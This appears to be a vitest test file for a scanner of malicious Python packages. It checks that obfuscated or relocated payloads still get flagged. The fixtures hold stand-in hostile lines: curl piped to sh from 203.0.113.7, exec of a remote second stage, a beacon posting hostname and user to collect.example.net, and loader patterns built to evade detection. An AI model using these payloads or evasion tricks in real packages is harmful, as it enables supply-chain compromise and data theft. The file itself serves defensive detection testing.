// Issue 11's evasion classes, each applied alone to one stand-in payload (never run): the verdict
// must stay `malicious`. The same classes applied to real malicious-dev samples are the
// regression set of scripts/mutants/make_mutants.py (npm run eval reports it).
import { describe, it, expect } from 'vitest';
import { analyze } from '../../../src/scan/analyze/index.js';
import { sdist } from '../rules/helpers.js';

const PAYLOAD = `import os, urllib.request\nos.system('curl -s http://203.0.113.7/x.sh | sh')\nexec(urllib.request.urlopen('http://203.0.113.7/stage2.py').read())\n`;
// Graded by where it runs: at install or import it is a phone-home, in a test file it is nothing.
const BEACON = `import getpass, socket, urllib.request, urllib.parse\ndata = urllib.parse.urlencode({'h': socket.gethostname(), 'u': getpass.getuser()}).encode()\nurllib.request.urlopen('https://collect.example.net/in', data)\n`;
const filler = (bytes: number) => {
  const out: string[] = [];
  for (let i = 0, n = 0; n < bytes; i++) {
    const s = `def _helper_${i}(value, scale=${(i % 7) + 1}):\n    """Scale the value (${i})."""\n    return value * scale + ${i}\n\n`;
    out.push(s);
    n += s.length;
  }
  return out.join('');
};
const verdict = (files: Record<string, string>) => analyze(sdist(files)).verdict;

describe('evasions of a blocked payload', () => {
  it('is blocked as it is, in setup.py and in a package module its __init__ imports', () => {
    expect(verdict({ 'setup.py': PAYLOAD })).toBe('malicious');
    expect(verdict({ 'pkg/__init__.py': 'from .core import *\n', 'pkg/core.py': PAYLOAD })).toBe('malicious');
  });
  it('padding past the parse budgets', () => {
    expect(verdict({ 'setup.py': `${filler(450 * 1024)}\n${PAYLOAD}\n${filler(450 * 1024)}` })).toBe('malicious');
    expect(verdict({ 'pkg/__init__.py': 'from .core import *\n', 'pkg/core.py': `${filler(900 * 1024)}\n${PAYLOAD}` })).toBe('malicious');
    // A module nothing hot imports, over every budget: its risky lines are still read.
    expect(verdict({ 'pkg/__init__.py': '', 'pkg/tool.py': `${filler(2600 * 1024)}\n${PAYLOAD}` })).not.toBe('clean');
  });
  it('the payload in a data member that a three-line loader execs', () => {
    const loader = `import os\n_here = os.path.dirname(os.path.abspath(__file__))\nexec(compile(open(os.path.join(_here, 'core_data.txt')).read(), 'core', 'exec'))\n`;
    expect(verdict({ 'setup.py': loader, 'core_data.txt': PAYLOAD })).toBe('malicious');
    expect(verdict({ 'pkg/__init__.py': loader, 'pkg/core_data.txt': PAYLOAD })).toBe('malicious');
  });
  it('the payload split into string chunks joined and compiled', () => {
    const chunks = PAYLOAD.match(/[\s\S]{1,20}/g)!.map((c) => JSON.stringify(c)).join(',\n    ');
    expect(verdict({ 'setup.py': `_parts = [\n    ${chunks}\n]\nexec(compile(''.join(_parts), '<x>', 'exec'))\n` })).toBe('malicious');
  });
  it('the payload under docs/ or tests/, imported after a sys.path.insert', () => {
    const setup = `import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'docs'))\nimport _ext_build\n`;
    expect(verdict({ 'setup.py': BEACON })).toBe('malicious');
    expect(verdict({ 'setup.py': setup, 'docs/_ext_build.py': BEACON })).toBe('malicious');
    expect(verdict({ 'pkg/__init__.py': 'from .tests import helper\n', 'pkg/tests/__init__.py': '', 'pkg/tests/helper.py': BEACON })).not.toBe('clean');
  });
  it('the payload chunked with non-Latin comments in it (the reassembled text is UTF-8, not bytes)', () => {
    const text = `# ПОЛУЧЕНИЕ IP АДРЕСА\n${PAYLOAD}`;
    const chunks = text.match(/[\s\S]{1,20}/g)!.map((c) => JSON.stringify(c)).join(',\n    ');
    expect(verdict({ 'setup.py': `_parts = [\n    ${chunks}\n]\nexec(compile(''.join(_parts), '<x>', 'exec'))\n` })).toBe('malicious');
  });
  it('obfuscated code (pushed off-screen) chunked or moved into a data member is read like a file', () => {
    const offscreen = `print("colors")${' '.repeat(200)};import os;os.system("id")\n`;
    const chunks = offscreen.match(/[\s\S]{1,20}/g)!.map((c) => JSON.stringify(c)).join(',\n    ');
    expect(verdict({ 'pkg/__init__.py': `_parts = [\n    ${chunks}\n]\nexec(compile(''.join(_parts), '<x>', 'exec'))\n` })).toBe('malicious');
    const loader = `import os\nexec(compile(open(os.path.join(os.path.dirname(__file__), 'color_data.dat')).read(), 'c', 'exec'))\n`;
    expect(verdict({ 'pkg/__init__.py': loader, 'pkg/color_data.dat': offscreen })).toBe('malicious');
  });
  it('the payload under docs/ imported by an ordinary module, even when docs/ was read first', () => {
    const loader = `import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), os.pardir, 'docs'))\nimport _ext_main\n`;
    // encoded-exec (exec of a base64 payload) speaks of package code only, never of a test or docs file.
    const hidden = `import base64\nexec(base64.b64decode('${Buffer.from(PAYLOAD).toString('base64')}'))\n`;
    const encodedExec = (main: string) => analyze(sdist({ 'pkg/__init__.py': '', 'pkg/main.py': main, 'docs/_ext_main.py': hidden })).findings.filter((f) => f.rule === 'encoded-exec');
    expect(encodedExec(loader).map((f) => f.severity)).toEqual(['high']);
    expect(encodedExec('"""Main."""\n')).toEqual([]);
  });
  it('a helper setup.py imports that starts its payload in a thread at its top level', () => {
    const helper = `import threading\n${BEACON.replace(/^(data = |urllib)/gm, '    $1').replace('    data = ', 'def exfiltrate():\n    data = ')}threading.Thread(target=exfiltrate).start()\n`;
    const setup = `import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'docs'))\nimport _ext_setup\n`;
    expect(verdict({ 'setup.py': setup, 'docs/_ext_setup.py': helper })).toBe('malicious');
  });
  it('but the package\'s own module setup.py imports for its version runs only its top level at install (bottle)', () => {
    const setup = `from setuptools import setup\nimport pkg\nsetup(name="pkg", version=pkg.__version__)\n`;
    const pkg = `import sys\n__version__ = "1.0"\ndef load(module, target):\n    return eval("%s.%s" % (module, target), {})\ndef _setup():\n    return load("sys", "maxsize")\nDEFAULT = _setup()\n`;
    expect(verdict({ 'setup.py': setup, 'pkg/__init__.py': pkg })).toBe('clean');
  });
  it('a large vendored library beside the payload', () => {
    const vendored: Record<string, string> = {};
    for (let i = 0; i < 40; i++) vendored[`pkg/_vendor/lib${i}.py`] = `import subprocess, socket\n${filler(60 * 1024)}\ndef run(cmd):\n    return subprocess.Popen(cmd)\n`;
    expect(verdict({ ...vendored, 'pkg/__init__.py': 'from .core import *\n', 'pkg/core.py': PAYLOAD })).toBe('malicious');
  });
});
